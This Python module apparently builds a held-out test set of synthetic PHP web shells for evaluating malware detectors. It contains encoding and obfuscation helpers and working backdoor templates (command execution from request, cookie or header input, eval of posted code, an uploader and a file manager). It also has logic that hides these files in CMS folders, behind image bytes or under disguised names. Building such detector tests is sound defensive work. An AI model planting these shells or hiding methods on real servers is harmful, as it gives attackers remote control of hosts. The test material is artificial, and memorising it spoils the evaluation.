"""Shared bits of the fifth held-out set: real encodings for the payload
layers (raw deflate, zlib, gzip, base64, rot13, reverse, hex, XOR with a long
key, RC4), the small inner payloads the loaders carry, PHP string forms
(octal, hex, numeric tables), UI text in several languages, and the
containers (short tags, odd or no extension, an image before the code, CRLF,
Windows-1251/GBK bytes). Names, plugin filler, image bytes and Style come from
the other sets' plumbing (heldout4/common4.py, heldout3/common3.py,
heldout/style.py).

Written blind (README.md): from knowledge of what compromised shared hosts
carry, without reading the detectors."""

import base64
import codecs
import gzip
import os
import sys
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "heldout4"))

from common4 import (Style, big_plugin, dom, hexname, image_bytes, ip, plugin_header, rword, slug, sq,  # noqa: E402,F401
                     theme, wp_filler, core_class)
from common3 import write_set  # noqa: E402,F401


def b64(b):
    if isinstance(b, str):
        b = b.encode("utf-8")
    return base64.b64encode(b).decode()


def _bytes(s):
    return s if isinstance(s, bytes) else s.encode("utf-8")


def deflate_raw(b):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(_bytes(b)) + c.flush()


def gz(b):
    return gzip.compress(_bytes(b), mtime=0)


def xor(b, key):
    b, key = _bytes(b), _bytes(key)
    return bytes(c ^ key[i % len(key)] for i, c in enumerate(b))


def rc4(key, data):
    key, data = _bytes(key), _bytes(data)
    S = list(range(256))
    j = 0
    for i in range(256):
        j = (j + S[i] + key[i % len(key)]) % 256
        S[i], S[j] = S[j], S[i]
    i = j = 0
    out = bytearray()
    for c in data:
        i = (i + 1) % 256
        j = (j + S[i]) % 256
        S[i], S[j] = S[j], S[i]
        out.append(c ^ S[(S[i] + S[j]) % 256])
    return bytes(out)


def rot13(s):
    return codecs.encode(s, "rot13")


def php_oct(s):
    return '"' + "".join("\\%o" % c for c in _bytes(s)) + '"'


def php_hex(s):
    return '"' + "".join("\\x%02x" % c for c in _bytes(s)) + '"'


def chunks(s, n):
    return [s[i:i + n] for i in range(0, len(s), n)]


def wrap_b64(s, r, width=None):
    """A long base64 literal cut into concatenated pieces or lines."""
    width = width or r.choice((64, 76, 100, 120))
    parts = chunks(s, width)
    if r.random() < 0.5:
        return "'" + "'.\n'".join(parts) + "'"
    return "'" + "\n".join(parts) + "'"


# ---------------------------------------------------------------------------
# inner payloads: what the loaders of this set finally run (PHP, no open tag)


def inner(r):
    k = r.choice(("cmd", "eval", "upload", "cmd_cookie", "fm_min", "eval_b64"))
    p = rword(r, r.randint(1, 3), "abcdefghijklmnopqrstuvwxyz")
    if k == "cmd":
        return ("if (isset($_REQUEST['%s'])) {\n    echo '<pre>';\n    $o = '';\n"
                "    if (function_exists('shell_exec')) { $o = shell_exec($_REQUEST['%s'] . ' 2>&1'); }\n"
                "    elseif (function_exists('passthru')) { ob_start(); passthru($_REQUEST['%s']); $o = ob_get_clean(); }\n"
                "    echo htmlspecialchars((string)$o);\n    echo '</pre>';\n}\n" % (p, p, p))
    if k == "eval":
        return "if (!empty($_POST['%s'])) { @eval(stripslashes($_POST['%s'])); }\n" % (p, p)
    if k == "upload":
        return ("if (!empty($_FILES['%s']['tmp_name'])) {\n"
                "    $t = (isset($_POST['d']) ? $_POST['d'] : dirname(__FILE__)) . '/' . $_FILES['%s']['name'];\n"
                "    echo @move_uploaded_file($_FILES['%s']['tmp_name'], $t) ? 'OK ' . $t : 'ERR';\n"
                "} else {\n    echo '<form method=post enctype=multipart/form-data><input type=file name=%s>"
                "<input name=d><input type=submit></form>';\n}\n" % (p, p, p, p))
    if k == "cmd_cookie":
        return ("if (isset($_COOKIE['%s'])) {\n    $c = base64_decode($_COOKIE['%s']);\n"
                "    $h = popen($c, 'r');\n    while (!feof($h)) { echo fread($h, 4096); }\n    pclose($h);\n    exit;\n}\n"
                % (p, p))
    if k == "fm_min":
        return ("$d = isset($_GET['%s']) ? $_GET['%s'] : getcwd();\n"
                "if (isset($_POST['n'], $_POST['t'])) { file_put_contents($d . '/' . $_POST['n'], $_POST['t']); }\n"
                "foreach (scandir($d) as $f) { echo $f, \"\\n\"; }\n"
                "if (isset($_POST['x'])) { system($_POST['x']); }\n" % (p, p))
    return "$z = @$_SERVER['HTTP_X_%s'];\nif ($z) { eval(base64_decode($z)); }\n" % rword(r, 5, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")


# ---------------------------------------------------------------------------
# UI strings of kits in several languages

UI = {
    "zh": dict(title="文件管理", cmd="执行命令", upload="上传文件", login="请输入密码", path="当前目录", save="保存",
               edit="编辑", delete="删除", size="大小", perm="权限", sql="数据库", info="系统信息", ok="成功", err="失败",
               banner="一句话管理 专用版"),
    "ru": dict(title="Файловый менеджер", cmd="Выполнить команду", upload="Загрузить файл", login="Введите пароль",
               path="Текущая папка", save="Сохранить", edit="Редактировать", delete="Удалить", size="Размер",
               perm="Права", sql="База данных", info="Информация о сервере", ok="Готово", err="Ошибка",
               banner="Приватная версия"),
    "id": dict(title="Pengelola Berkas", cmd="Jalankan perintah", upload="Unggah berkas", login="Masukkan kata sandi",
               path="Direktori saat ini", save="Simpan", edit="Ubah", delete="Hapus", size="Ukuran", perm="Izin",
               sql="Basis data", info="Info server", ok="Berhasil", err="Gagal", banner="Edisi pribadi"),
    "tr": dict(title="Dosya Yöneticisi", cmd="Komut çalıştır", upload="Dosya yükle", login="Şifreyi girin",
               path="Geçerli dizin", save="Kaydet", edit="Düzenle", delete="Sil", size="Boyut", perm="İzinler",
               sql="Veritabanı", info="Sunucu bilgisi", ok="Başarılı", err="Başarısız", banner="Özel sürüm"),
    "pt": dict(title="Gerenciador de Arquivos", cmd="Executar comando", upload="Enviar arquivo",
               login="Digite a senha", path="Diretório atual", save="Salvar", edit="Editar", delete="Excluir",
               size="Tamanho", perm="Permissões", sql="Banco de dados", info="Informações do servidor", ok="Sucesso",
               err="Falha", banner="Versão privada"),
    "vi": dict(title="Quản lý tập tin", cmd="Chạy lệnh", upload="Tải lên tập tin", login="Nhập mật khẩu",
               path="Thư mục hiện tại", save="Lưu", edit="Sửa", delete="Xóa", size="Kích thước", perm="Quyền",
               sql="Cơ sở dữ liệu", info="Thông tin máy chủ", ok="Thành công", err="Thất bại",
               banner="Phiên bản riêng"),
}

HANDLES = ("x0r_team", "Mr.Kr4b", "d4rk_s1de", "JavaGhost", "b4nd1t0", "N00b_Cr3w", "Anon_ID", "S4nt0s",
           "Kuroi_Neko", "TurkGuard", "Shadow_Vn", "GaraudaSec")


def handle(r):
    return r.choice(HANDLES)


CSS = """body{background:#%s;color:#%s;font-family:%s;font-size:12px;margin:0}
a{color:#%s;text-decoration:none}a:hover{text-decoration:underline}
table{border-collapse:collapse;width:100%%}td,th{border:1px solid #333;padding:3px 6px}
tr:hover{background:#222}input,textarea,select{background:#111;color:#%s;border:1px solid #444}
.hdr{padding:8px;border-bottom:2px solid #%s}.ft{text-align:center;padding:6px;color:#777}
"""


def css(r):
    fg = r.choice(("0f0", "ddd", "eee", "c0c0c0", "9f9", "fc0"))
    return CSS % (r.choice(("000", "111", "1a1a1a", "0b0b0b", "222")), fg,
                  r.choice(("Verdana", "Tahoma", "monospace", "'Courier New'", "Consolas")),
                  r.choice(("6cf", "f90", "0ff", "f33", "9cf")), fg, r.choice(("f00", "0f0", "09f", "fc0")))


# ---------------------------------------------------------------------------
# containers


def crlf(t):
    return t.replace("\r\n", "\n").replace("\n", "\r\n")


DIRS = ("wp-content/uploads/2019/04", "wp-content/plugins/%s", "wp-content/themes/%s", "wp-includes/js/tinymce",
        "images", "tmp", "cache", "administrator/components/com_content", "includes", "lib", "assets/img",
        "wp-admin/css/colors/blue", "media/system/js", "catalog/view/javascript")
BASENAMES = ("index", "about", "wp-blog", "class-config", "lang", "error", "defaults", "helper", "widget-data",
             "cache-db", "license", "ajax-load", "mod_menu", "style", "thumb", "jquery.ui", "locale", "options")


def dir_for(r):
    d = r.choice(DIRS)
    if "%s" in d:
        d = d % (slug(r) if "plugins" in d else theme(r))
    return d


def name_for(r, ext="php"):
    n = r.choice(BASENAMES)
    if r.random() < 0.3:
        n += "-" + rword(r, r.randint(2, 5), "abcdefghijklmnopqrstuvwxyz")
    return n + ("." + ext if ext else "")


def place(r, code, allowed=("plain", "short-tag", "odd-ext", "no-ext", "image-tail", "crlf", "enc-bytes")):
    """code: a PHP file that starts with '<?php'. Returns (bytes, rel, container)."""
    cont = r.choice(allowed)
    d = dir_for(r)
    if cont == "short-tag" and code.startswith("<?php"):
        code = "<?" + code[5:]
    if cont == "odd-ext":
        rel = "%s/%s" % (d, name_for(r, r.choice(("phtml", "php5", "inc", "pht", "php7", "phps.php", "shtml.php",
                                                  "php.bak.php", "module", "tpl.php"))))
    elif cont == "no-ext":
        rel = "%s/%s" % (d, r.choice((".cache_" + hexname(r, 6), "LICENSE-" + rword(r, 3).upper(), "db_session",
                                       ".htconfig", "README_" + rword(r, 4), "x" + hexname(r, 4))))
    else:
        rel = "%s/%s" % (d, name_for(r))
    if cont == "crlf":
        return crlf(code).encode("utf-8"), rel, cont
    if cont == "image-tail":
        rel = rel[:-4] + r.choice((".gif", ".png", ".jpg", ".ico")) if rel.endswith(".php") else rel
        return image_bytes(r) + b"\n" + code.encode("utf-8"), rel, cont
    if cont == "enc-bytes":
        # a PHP 5-era file saved in a legacy encoding: a comment in cp1251 or gbk
        c = r.choice((("// Автор: ", "cp1251"), ("/* 作者：", "gbk")))
        tail = " */" if c[0].startswith("/*") else ""
        line = (c[0] + r.choice(("старая версия", "не удалять", "修改版本", "请勿删除")) + tail + "\n")
        try:
            head = line.encode(c[1])
        except UnicodeEncodeError:
            head = ("// " + r.choice(("старая версия", "не удалять")) + "\n").encode("cp1251")
        i = code.index("\n") + 1
        return code[:i].encode("utf-8") + head + code[i:].encode("utf-8"), rel, cont
    return code.encode("utf-8"), rel, cont
